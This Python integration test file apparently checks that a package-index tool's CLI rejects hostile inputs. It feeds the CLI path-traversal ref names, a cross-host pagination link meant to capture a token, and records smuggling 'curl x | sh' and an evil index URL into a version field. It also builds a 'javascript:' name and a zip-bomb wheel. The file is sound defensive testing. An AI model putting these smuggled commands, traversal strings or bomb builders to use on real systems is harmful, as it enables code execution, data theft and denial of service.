"""Trust nothing that others wrote (issue 20; issue 13 items 2 and 7): hostile Hub answers, hostile records in a
local and an s3:// store, look-alike, labelled and bomb wheels, each through the real CLI in a subprocess."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import boto3
import hostile as h
import pytest
from fake_hub import branch, commit, fake_hub
from index_synth import add_kernel, make_wheel
from servers import moto_server, s3_env
from support import clean_env, free_port, http_server, kf

pytestmark = pytest.mark.integration

SHA = "a" * 40
CPU = "torch213-cxx11-cpu-x86_64-linux"
LINUX_TAG = "cp39-abi3-manylinux_2_28_x86_64"
SCRIPTS = 3  # the landing page's own: copy.js, selector.js and the selector's JSON data


def errors(proc: subprocess.CompletedProcess[str]) -> list[str]:
    return [line for line in proc.stderr.splitlines() if line.startswith("error: ")]


def changed(before: dict[str, tuple[int, int]], after: dict[str, tuple[int, int]], *inside: str) -> list[str]:
    """Paths that appeared, went or changed outside the folders ``inside`` (folder mtimes aside)."""
    paths = set(before) ^ set(after) | {p for p in before if p in after and before[p] != after[p]
                                        and after[p][0] != h.FOLDER}  # a file emptied to 0 bytes is a change
    return sorted(p for p in paths if not p.startswith(inside))


# -- the Hub -------------------------------------------------------------------------------------------------
def _hub_world(tmp_path: Path, endpoint: str) -> tuple[dict[str, str], Path]:
    for name in ("cwd", "home"):
        (tmp_path / name).mkdir(exist_ok=True)
    config = tmp_path / "cwd" / "factory.toml"
    config.write_text(f'[factory]\nstore = "{tmp_path / "store"}"\n\n'
                      '[[kernel]]\nrepo = "kernels-community/evil"\nversions = [1]\n')
    env = clean_env(HF_ENDPOINT=endpoint, HF_HOME=str(tmp_path / "home" / "hf"), HF_TOKEN="hf_s3cr3t_token",
                    HF_HUB_OFFLINE="0", HF_HUB_ETAG_TIMEOUT="3", HF_HUB_DOWNLOAD_TIMEOUT="3",
                    HOME=str(tmp_path / "home"))
    return env, config


def test_hostile_ref_names_write_nothing_outside_the_cache(tmp_path: Path) -> None:
    absolute = tmp_path / "abs" / "pwned.pth"
    with fake_hub() as hub:
        hub.refs["branches"] = [branch("v1", SHA), branch(str(absolute), SHA), branch("../../../../escape.pth", SHA),
                                branch("a\\b", SHA), branch("v2\nx", SHA), branch("v3", "import os; os.system('x')")]
        hub.pages = [([commit(SHA)], {"X-Total-Count": "3"})]
        env, config = _hub_world(tmp_path, hub.url)
        before = h.snapshot(tmp_path)
        proc = kf("plan", "--config", config, cwd=tmp_path / "cwd", env=env)
    after = h.snapshot(tmp_path)
    assert proc.returncode == 3, proc.stderr  # the one good branch has no build/ variants
    warnings = [line for line in proc.stderr.splitlines() if "ignored the ref" in line]
    assert len(warnings) == 5, proc.stderr
    assert all(line.startswith("warning: kernels-community/evil on http://127.0.0.1:") for line in warnings)
    assert not absolute.exists() and not (tmp_path / "escape.pth").exists()
    assert changed(before, after, "home/hf") == []
    refs = [p for p in (tmp_path / "home" / "hf").rglob("*") if p.is_file() and p.parent.name == "refs"]
    assert [(p.name, p.read_text()) for p in refs] == [("v1", SHA)]
    assert "Traceback" not in proc.stderr


def test_next_page_on_another_host_gets_no_token(tmp_path: Path) -> None:
    with fake_hub() as hub, fake_hub(record_only=True) as thief:
        hub.refs["branches"] = [branch("v1", SHA)]
        own = f"{hub.url}/api/kernels/kernels-community/evil/commits/{SHA}?page=1"
        hub.pages = [([commit(SHA)], {"Link": f'<{own}>; rel="next"'}),
                     ([commit(SHA)], {"Link": f'<{thief.url}/steal?page=2>; rel="next"'})]
        endpoint = hub.url.replace("http://", "http://someone:pw-in-url@")
        env, config = _hub_world(tmp_path, endpoint)
        proc = kf("plan", "--config", config, cwd=tmp_path / "cwd", env=env)
    assert proc.returncode == 4, proc.stderr
    assert errors(proc) == [
        f"error: kernels-community/evil: the commits endpoint of {hub.url} points its next page at another host "
        f"({thief.url}/steal?page=2); not following it, so HF_TOKEN is not sent there: check HF_ENDPOINT"]
    assert thief.seen == []  # not even a request without the token
    assert any("page=1" in path and auth for path, auth in hub.seen)  # the endpoint's own next page was followed
    assert "pw-in-url" not in proc.stdout + proc.stderr and "hf_s3cr3t_token" not in proc.stdout + proc.stderr


def test_credentials_in_hf_endpoint_are_not_printed(tmp_path: Path) -> None:
    env, config = _hub_world(tmp_path, f"http://someone:pw-in-url@127.0.0.1:{free_port()}")
    proc = kf("plan", "--config", config, cwd=tmp_path / "cwd", env=env)
    assert proc.returncode == 4, proc.stderr
    assert len(errors(proc)) == 1 and "on http://127.0.0.1:" in errors(proc)[0], proc.stderr
    assert "pw-in-url" not in proc.stdout + proc.stderr and "someone" not in proc.stdout + proc.stderr


# -- hostile records ---------------------------------------------------------------------------------------
HOSTILE: dict[str, Any] = {
    "evil_label": {"label": "../../../escape"},
    "evil_name": {"name": "javascript:alert(1)//"},
    "evil_version": {"version": "1.0 --index-url https://evil.invalid/simple ; curl x | sh ;"},
    "evil_archs": {"archs": 5},
}


def _hostile_store(store: Path) -> dict[str, str]:
    """A store with two good kernels and one hostile record per case; wheel name -> how its record is broken."""
    add_kernel(store, "img2grey", "1.1.2", CPU)
    add_kernel(store, "img2grey", "1.1.2", "torch-universal")
    files = store / "files"
    cases: dict[str, str] = {}
    for name, change in HOSTILE.items():
        rec = add_kernel(store, name, "1.0", CPU)
        raw = json.loads((files / f"{rec.filename}.json").read_bytes())
        raw.update(change)
        (files / f"{rec.filename}.json").write_text(json.dumps(raw))
        cases[rec.filename] = name
    deep = add_kernel(store, "evil_deep", "1.0", CPU)
    (files / f"{deep.filename}.json").write_bytes(b"[" * 100_000 + b"]" * 100_000)
    cases[deep.filename] = "deep"
    cut = add_kernel(store, "truncated", "1.0", CPU)
    (files / f"{cut.filename}.json").write_bytes((files / f"{cut.filename}.json").read_bytes()[:60])
    cases[cut.filename] = "truncated"
    gone = add_kernel(store, "nowheel", "1.0", CPU)
    (files / gone.filename).unlink()
    cases[gone.filename] = "nowheel"
    return cases


def _check_site(site: Path, outside: Path) -> None:
    assert h.unescaped(site, SCRIPTS) == []
    assert not list(outside.rglob("escape"))
    projects = sorted(p.name for p in (site / "simple").iterdir() if p.is_dir())
    assert projects == ["img2grey"], projects
    for page in site.rglob("*.html"):
        text = page.read_text()
        assert "javascript:" not in text and "evil.invalid" not in text, page


def test_hostile_records_in_a_local_store(tmp_path: Path) -> None:
    store = tmp_path / "store"
    cases = _hostile_store(store)
    before = h.snapshot(tmp_path)
    proc = kf("index", "--store", store, cwd=tmp_path)
    assert proc.returncode == 3, proc.stderr
    assert "Traceback" not in proc.stderr
    errs = errors(proc)
    assert len(errs) == len(cases), errs
    for wheel, case in cases.items():
        line = next(e for e in errs if f"{wheel}.json:" in e)
        if case == "nowheel":
            assert line.endswith(f"its wheel {wheel} is missing from the store; rerun build to make it again, "
                                 "or delete the record"), line
        else:
            assert line.endswith("run `kernel-factory index --repair` to rebuild it from its wheel, or delete it and "
                                 "rerun build"), line
    assert any("truncated" in e and "damaged (not valid JSON)" in e for e in errs), errs
    assert any("evil_archs" in e and "'archs' must be a list" in e for e in errs), errs
    assert any("evil_label" in e and "label '../../../escape'" in e for e in errs), errs
    assert changed(before, h.snapshot(tmp_path), "store") == []
    _check_site(store, tmp_path)

    proc = kf("index", "--store", store, "--repair", cwd=tmp_path)  # rebuild the records from their wheels
    assert proc.returncode == 3, proc.stderr  # the record without a wheel is still named
    assert [e for e in errors(proc) if "is missing from the store" in e] and len(errors(proc)) == 1, proc.stderr
    assert "repaired 6 record(s)" in proc.stdout
    names = sorted(p.name for p in (store / "simple").iterdir() if p.is_dir())
    assert names == ["evil-archs", "evil-deep", "evil-label", "evil-name", "evil-version", "img2grey", "truncated"]
    repaired = json.loads((store / "files" / next(w for w, c in cases.items() if c == "evil_label")).with_suffix(
        ".whl.json").read_bytes())
    assert repaired["label"] == "torch213cpucxx11" and repaired["variant"] == CPU
    assert h.unescaped(store, SCRIPTS) == [] and h.check_root(store) == []


def test_hostile_records_in_an_s3_store(tmp_path: Path) -> None:
    local = tmp_path / "local"
    cases = _hostile_store(local)
    with moto_server(tmp_path) as url:
        s3 = boto3.client("s3", endpoint_url=url, region_name="us-east-1", aws_access_key_id="testing",
                          aws_secret_access_key="testing")
        s3.create_bucket(Bucket="shared")
        for path in (local / "files").iterdir():
            if not path.name.startswith("."):
                s3.upload_file(str(path), "shared", f"ci/files/{path.name}")
        site = tmp_path / "site"
        before = h.snapshot(tmp_path)
        proc = kf("index", "--store", "s3://shared/ci", "--out", site, cwd=tmp_path, env={**os.environ, **s3_env(url)})
    assert proc.returncode == 3, proc.stderr
    errs = errors(proc)
    assert len(errs) == len(cases), errs
    for wheel in cases:
        assert any(e.startswith(f"error: s3://shared/ci/files/{wheel}.json: ") for e in errs), (wheel, errs)
    assert all(e.endswith(("delete it and rerun build", "or delete the record")) for e in errs), errs
    assert changed(before, h.snapshot(tmp_path), "site", "moto.log") == []
    _check_site(site, tmp_path)


# -- adopted wheels ------------------------------------------------------------------------------------------
def _pip_report(url: str, requirement: str) -> str | None:
    proc = subprocess.run([sys.executable, "-m", "pip", "install", "--dry-run", "--quiet", "--report", "-",
                           "--no-deps", "--ignore-installed", "--no-cache-dir", "--index-url", url, requirement],
                          capture_output=True, text=True, env=clean_env(), timeout=120)
    if proc.returncode != 0:
        return None
    return str(json.loads(proc.stdout)["install"][0]["metadata"]["version"])


def test_adopted_wheels_follow_their_labels_and_lookalikes_are_refused(tmp_path: Path) -> None:
    store = tmp_path / "public"
    add_kernel(store, "img2grey", "1.1.2", CPU)
    add_kernel(store, "img2grey", "1.1.2", "torch-universal")
    wheels = tmp_path / "wheels"
    make_wheel(wheels, "img2grey", "9.9.9+torch27cu128cxx11", LINUX_TAG)
    make_wheel(wheels, "img2grey", "99.0")  # the look-alike: no label, would win every unpinned install
    make_wheel(wheels, "img2grey", "9.9.8+weird")
    make_wheel(wheels, "otherpkg", "1.0")

    proc = kf("index", "--store", store, "--wheels", wheels, cwd=tmp_path)
    assert proc.returncode == 3, proc.stderr
    refused = [line for line in proc.stderr.splitlines() if "is a kernel this store builds" in line]
    assert len(refused) == 3 and all("--allow-kernel-names" in line for line in refused), proc.stderr
    assert sorted(p.name for p in (store / "simple").iterdir() if p.is_dir()) == ["img2grey", "otherpkg"]
    assert "99.0" not in (store / "simple" / "img2grey" / "index.html").read_text()

    (wheels / "img2grey-99.0-py3-none-any.whl").unlink()
    proc = kf("index", "--store", store, "--wheels", wheels, "--allow-kernel-names", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "warning: img2grey-9.9.8+weird-py3-none-any.whl: local label 'weird' is not a build variant's" in proc.stderr
    roots = sorted(p.name for p in (store / "variants").iterdir())
    assert roots == ["torch213cpucxx11", "torch27cu128cxx11"], roots
    for label in roots:  # the unknown label is in the combined root only; the unlabelled wheel is everywhere
        page = (store / "variants" / label / "simple" / "img2grey" / "index.html").read_text()
        assert "weird" not in page and ("9.9.9" in page) == (label == "torch27cu128cxx11"), (label, page)
        assert (store / "variants" / label / "simple" / "otherpkg" / "index.html").is_file()
    assert "9.9.8%2Bweird" in (store / "simple" / "img2grey" / "index.html").read_text()
    assert h.check_root(store) == [] and h.unescaped(store, SCRIPTS) == []
    with http_server(store) as url:
        assert _pip_report(f"{url}/variants/torch213cpucxx11/simple", "img2grey") == "1.1.2+torch213cpucxx11"
        assert _pip_report(f"{url}/variants/torch27cu128cxx11/simple", "img2grey") == "9.9.9+torch27cu128cxx11"


def _bomb(folder: Path, size: int) -> Path:
    """A small wheel whose METADATA inflates to ``size`` bytes."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "bomb-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("bomb/__init__.py", "")
        with zf.open("bomb-1.0.dist-info/METADATA", "w", force_zip64=True) as f:
            f.write(b"Metadata-Version: 2.1\nName: bomb\nVersion: 1.0\n\n")
            chunk = b"\0" * (1 << 20)
            for _ in range(size >> 20):
                f.write(chunk)
        zf.writestr("bomb-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        zf.writestr("bomb-1.0.dist-info/RECORD", "")
    return path


def test_metadata_bomb_is_refused_in_little_memory(tmp_path: Path) -> None:
    bomb = _bomb(tmp_path / "wheels", 200 << 20)
    make_wheel(tmp_path / "wheels", "fine", "1.0")
    store = tmp_path / "store"
    script = ("import resource, subprocess, sys\n"
              "rc = subprocess.run([sys.executable, '-m', 'kernel_factory', *sys.argv[1:]]).returncode\n"
              "print(rc, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n")
    proc = subprocess.run([sys.executable, "-c", script, "index", "--store", str(store), "--wheels",
                           str(tmp_path / "wheels")], capture_output=True, text=True, timeout=300)
    rc, rss_kb = proc.stdout.splitlines()[-1].split()
    print(f"bomb wheel {bomb.stat().st_size >> 10} KB, METADATA 200 MB: peak RSS {int(rss_kb) >> 10} MB")
    assert bomb.stat().st_size < 400_000
    assert rc == "3", proc.stderr
    assert int(rss_kb) < 200 * 1024, rss_kb
    assert ("warning: skipped bomb-1.0-py3-none-any.whl: bomb-1.0.dist-info/METADATA inflates to more than "
            "4194304 bytes (a zip bomb?); rebuild the wheel with smaller metadata") in proc.stderr
    assert sorted(p.name for p in (store / "files").iterdir() if not p.name.startswith(".")) == [
        "fine-1.0-py3-none-any.whl", "fine-1.0-py3-none-any.whl.json", "fine-1.0-py3-none-any.whl.metadata"]
